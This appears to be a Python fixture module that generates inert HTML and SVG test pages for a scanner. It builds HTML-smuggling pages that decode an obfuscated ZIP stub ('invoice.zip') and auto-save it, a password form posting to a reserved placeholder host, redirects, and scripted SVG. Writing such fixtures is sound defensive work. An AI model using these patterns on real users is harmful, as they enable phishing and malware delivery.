"""pages.py - pages of HTML and SVG with chosen facts.

They are inert: what they would save or send is one line of text, and where
they lead is a reserved name (RFC 2606).
"""

import base64

ZIP = b"PK\x03\x04" + bytes(26)


def page(body="", head="", scripts=(), title="Page"):
    code = "".join(f"<script>{script}</script>" for script in scripts)
    return (f"<!DOCTYPE html>\n<html><head><title>{title}</title>{head}"
            f"</head>\n<body>{body}{code}</body></html>\n").encode()


def encoded(payload, way):
    """An expression that is the payload's bytes."""
    if way == "base64":
        text = base64.b64encode(payload).decode()
        return (f"Uint8Array.from(atob('{text}'), "
                "c => c.charCodeAt(0))")
    if way == "numbers":
        return f"new Uint8Array([{','.join(map(str, payload))}])"
    if way == "hex":
        return f"fromHex('{payload.hex()}')"
    if way == "pieces":
        text = base64.b64encode(payload).decode()
        cut = " + ".join(f"'{text[i:i + 16]}'"
                         for i in range(0, len(text), 16))
        return f"atob({cut})"
    raise ValueError(way)


def smuggling(payload=ZIP + bytes(60), name="invoice.zip", way="base64",
              save="click", text="Your download starts."):
    """A page that makes a file of text and saves it."""
    script = f"var data = {encoded(payload, way)};\n"
    script += "var blob = new Blob([data]);\n"
    if save == "click":
        script += ("var a = document.createElement('a');\n"
                   "a.href = URL.createObjectURL(blob);\n"
                   f"a.download = '{name}';\na.click();\n")
    else:
        script += f"navigator.msSaveOrOpenBlob(blob, '{name}');\n"
    return page(f"<p>{text}</p>", scripts=[script])


def sign_in(action="https://a.example/collect", fields=1, text="Sign in",
            hidden=0, images=1):
    """A form that asks for a password."""
    inputs = "<input type=email name=user>"
    inputs += "<input type='password' name='pass'>" * fields
    body = "<img src='cid:logo'>" * images
    body += "<div style='display:none'>x</div>" * hidden
    return page(f"{body}<p>{text}</p><form method=post action='{action}'>"
                f"{inputs}<input type=submit></form>")


def redirect(url="https://a.example/next", way="meta"):
    if way == "meta":
        return page(head="<meta http-equiv=\"refresh\" content=\"0; "
                         f"url={url}\">")
    return page(scripts=[f"window.location.href = '{url}';"])


def svg(script="", link=""):
    inside = f"<script><![CDATA[{script}]]></script>" if script else ""
    if link:
        inside += f"<a xlink:href=\"{link}\"><rect width='9' height='9'/></a>"
    return ("<svg xmlns=\"http://www.w3.org/2000/svg\" "
            f"width=\"9\" height=\"9\">{inside}</svg>").encode()


def newsletter(links=20, images=10):
    """What honest pages are full of."""
    body = "<span style=\"display:none\">Preheader</span>"
    for number in range(links):
        body += (f"<p>News number {number} of many.</p>"
                 f"<a href=\"https://news.example/{number}?a=1&amp;b=2\">"
                 "More</a>")
    body += "<img src=\"https://img.example/a.png\" width=1>" * images
    return page(body, head="<style>p { color: #333 }</style>")
